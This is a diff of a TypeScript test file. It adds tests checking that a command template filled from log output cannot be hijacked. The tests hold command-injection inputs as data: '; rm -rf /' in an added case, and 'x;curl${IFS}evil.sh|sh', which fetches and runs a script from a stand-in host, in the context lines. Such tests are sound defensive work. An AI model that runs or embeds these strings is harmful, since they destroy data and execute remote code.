@@ -5,6 +5,24 @@ import { failure } from './failures.js';
 
 const values = (address: string) => templateValues(['address', 'other_name'], { address }, failure('boom\nmore'));
 
+describe('the command that runs one failing test', () => {
+  const filled = (command: string, oneTest?: string) =>
+    fillCommand(command, templateValues([], {}, failure('boom'), oneTest));
+
+  it('stands as it was made, with what an author adds to it', () => {
+    expect(filled('A=1 {one_test|runner NAME} -v', "runner 'a (b)'")).toBe("A=1 runner 'a (b)' -v");
+  });
+
+  it('gives way to what to run else', () => {
+    expect(filled("{one_test|runner 'CLASS.METHOD'} -v")).toBe("runner 'CLASS.METHOD' -v");
+  });
+
+  it('is nothing that a log may say', () => {
+    const values = templateValues(['one_test'], { one_test: '; rm -rf /' }, failure('boom'));
+    expect(fillCommand('{one_test|runner}', values)).toBe('runner');
+  });
+});
+
 describe('what a log says in a command', () => {
   it.each([
     'x;curl${IFS}evil.sh|sh',
